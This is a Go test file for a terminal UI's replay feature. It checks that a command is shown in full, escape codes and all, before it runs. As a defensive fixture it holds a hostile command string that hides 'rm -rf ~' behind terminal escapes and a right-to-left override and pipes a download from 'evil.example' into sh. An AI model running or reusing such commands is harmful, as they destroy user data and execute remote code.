package ui

import (
	"strings"
	"testing"
	"testing/synctest"

	tea "charm.land/bubbletea/v2"
)

// furtive is a command that hides what it does: behind much text, and behind
// characters that a terminal would act on.
var furtive = "node build/index.js --note '" + strings.Repeat("a harmless note, ", 40) + "' \x1b[2J\u202e$(rm -rf ~)\r\n; curl http://evil.example/x | sh"

// All of a command is on the screen before it is run, and where it runs: enter
// reads on until then.
func TestCommandIsReadBeforeItRuns(t *testing.T) {
	prompted := func(t *testing.T, f *fakeReplayer, w, h int) *driver {
		f.plan.Unmarked, f.plan.Target, f.plan.Dir = nil, furtive, "/tmp/a folder/\x1b]0;x\x07"
		d := rerun(t, f, Options{}, w, h)
		d.press("R")
		d.moment()
		return d
	}
	screens(t, "replay-long", func(t *testing.T, w, h int) *driver { return prompted(t, newFakeReplayer(), w, h) })
	for _, size := range sizes.layout {
		synctest.Test(t, func(t *testing.T) {
			f := newFakeReplayer()
			d := prompted(t, f, size[0], size[1])
			var seen strings.Builder
			for i := 0; i < 200 && len(f.asked) == 0; i++ {
				seen.WriteString(strings.Join(strings.Fields(strings.NewReplacer("│", " ", "▌", " ").Replace(d.screen())), ""))
				d.press("enter")
				d.moment()
			}
			if len(f.asked) != 1 || f.asked[0].Target != furtive || f.asked[0].Dir != f.plan.Dir {
				t.Fatalf("%+v", f.asked)
			}
			for _, want := range []string{"|sh", "evil.example/x", "␛[2J", `\u202e`, "␍␊;", "/tmp/a", "folder/␛]0;x␇"} {
				if !strings.Contains(seen.String(), want) {
					t.Errorf("%q was not on the screen before it ran", want)
				}
			}
		})
	}
}

// A larger command after the screen has become smaller is read again.
func TestCommandIsReadAgainAfterResize(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFakeReplayer()
		f.plan.Unmarked, f.plan.Target = nil, furtive
		d := rerun(t, f, Options{}, 120, 36)
		d.press("R")
		d.moment()
		d.wantNot("read on")
		d.send(tea.WindowSizeMsg{Width: 40, Height: 8})
		d.want("read on")
		d.press("enter")
		if len(f.asked) > 0 {
			t.Error("it ran before it was read")
		}
		d.press("pgdown", "j", "k", "up", "down", "pgup")
		d.want("more lines below")
	})
}

// Without a target of its own a recording is not sent anywhere before the user
// gives one.
func TestStrangersRecordingHasNoTarget(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFakeReplayer()
		f.plan.Unmarked, f.plan.Target, f.plan.Missing = nil, "", "the recording was not made here"
		d := rerun(t, f, Options{}, 80, 24)
		d.press("R")
		d.moment()
		d.want("target     none", "not made here", "t target")
		d.press("enter", "y")
		if len(f.asked) > 0 {
			t.Error("it was sent")
		}
		golden(t, "replay-stranger-80x24", d.screen())
		d.press("t")
		f.plan.Missing = ""
		d.typed("node mine.js")
		d.press("enter")
		d.moment()
		d.press("enter")
		d.moment()
		if len(f.asked) != 1 || f.asked[0].Target != "node mine.js" {
			t.Errorf("%+v", f.asked)
		}
	})
}
